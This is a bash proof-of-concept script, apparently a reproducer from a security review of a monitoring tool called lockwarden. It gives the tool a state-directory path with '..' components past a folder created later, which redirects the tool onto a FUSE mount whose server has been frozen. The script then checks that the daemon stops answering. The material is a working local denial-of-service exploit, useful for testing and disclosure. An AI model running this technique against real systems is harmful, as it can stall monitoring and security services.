#!/bin/bash
# Attack: a state dir named with ".." past a folder that does not exist yet:
# own/m/../../mnt/state. missing_check strips components as written and finds own (nobody's,
# 0755): accepted, waited for. Then nobody makes own/m, the tree resolves the path again
# physically (own/m/.. = own, ../mnt = the FUSE mount) and walks into the stopped server.
LW=${LW:-/work/main/build/check/src/lockwarden}
T=$(mktemp -d /tmp/atk.XXXX); chmod 755 $T
mkdir -p $T/app $T/own $T/src/state/agents/main/sessions $T/mnt
echo '// entry' > $T/app/openclaw.mjs
chown -R nobody:nogroup $T/own $T/src/state
echo '{}' > $T/lw.json
bindfs -o attr_timeout=0,entry_timeout=0 $T/src $T/mnt || exit 1
srv=$(pgrep -n -f "^bindfs .*$T/src $T/mnt\$")
SD=$T/own/m/../../mnt/state
setpriv --reuid=nobody --regid=nogroup --clear-groups env -i OPENCLAW_STATE_DIR=$SD \
   bash -c "exec -a $T/app/openclaw.mjs bash -c 'sleep 40; :' gateway" &
gw=$!
sleep 0.3
kill -STOP $srv
env -u OPENCLAW_STATE_DIR timeout 15 $LW run --config $T/lw.json --socket $T/sock --events - > $T/events 2>$T/err &
d=$!
for i in $(seq 100); do grep -q monitor.ready $T/events 2>/dev/null && break; sleep 0.1; done
echo "ready: $(grep -o '"waiting_for":[^]]*]' $T/events | cut -c1-200)"
setpriv --reuid=nobody --regid=nogroup --clear-groups mkdir $T/own/m
sleep 3
echo "--- status answers? (5 s bound)"; timeout 5 $LW status --socket $T/sock > /dev/null 2>&1; echo "status rc=$? (124: no answer)"
for p in $(pgrep -f "^$LW run"); do ps -o pid,stat,wchan:30 -p $p | tail -1; cat /proc/$p/stack | head -4; done
kill -CONT $srv; wait $d; kill $gw 2>/dev/null; fusermount -u $T/mnt; rm -rf $T
